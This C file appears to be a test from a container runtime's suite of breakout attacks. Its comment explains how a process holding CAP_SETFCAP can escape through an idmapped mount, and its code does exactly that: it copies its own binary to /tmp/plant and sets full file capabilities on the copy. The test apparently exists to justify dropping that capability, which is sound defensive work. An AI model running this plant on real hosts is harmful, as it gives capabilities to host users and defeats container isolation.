/**
 * @file
 * @brief filecap: a program with capabilities is left for a user of the host.
 *
 * suidplant without the set-uid bit: security.capability is an attribute of a
 * file, and gives capabilities to whoever runs it. A process with CAP_SETFCAP
 * may write it. The kernel notes for which user namespace it counts, by the
 * owner of that namespace's root; through an idmapped mount this is the host's
 * root, and then it counts on the host. So CAP_SETFCAP goes, and package
 * managers that want it have to ask (--cap-add setfcap).
 */
#include <fcntl.h>
#include <linux/capability.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "tests/attacks/breakouts/breakout.h"

BREAKOUT(filecap)
{
    struct vfs_cap_data caps = {
        .magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
        .data = { { .permitted = ~0U }, { .permitted = 0x1ff } },
    };
    int from, to;

    if (words[0] && strcmp(words[0], "again") == 0)
        return show("/proc/self/status"); /* the user who found it */
    from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    to = open("/tmp/plant", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    if (to < 0)
        return stopped("open");
    while (sendfile(to, from, NULL, 1 << 20) > 0)
        ;
    return fsetxattr(to, "security.capability", &caps, sizeof(caps), 0) < 0
               ? stopped("setxattr(\"security.capability\")")
               : 0;
}
